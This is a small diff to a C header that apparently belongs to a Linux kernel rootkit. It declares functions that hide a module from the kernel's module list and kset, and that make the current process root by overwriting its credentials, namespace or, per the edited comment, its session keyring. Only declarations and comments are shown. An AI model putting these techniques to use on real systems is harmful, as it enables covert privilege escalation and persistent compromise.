@@ -26,7 +26,7 @@ struct effect *hide_from_list(void);
 struct effect *hide_from_kset(void);
 
 /* Make the current process root by writing its `users` in place, or its `pointer` to credentials; or put it into the first
- * user `namespace`. For good. */
+ * user `namespace`, or make its session's `keyring` its own. For good. */
 int tamper_with(const char *what);
 
 /* Give the current process root's credentials. `init_task`: its address, which newer kernels do not export. */
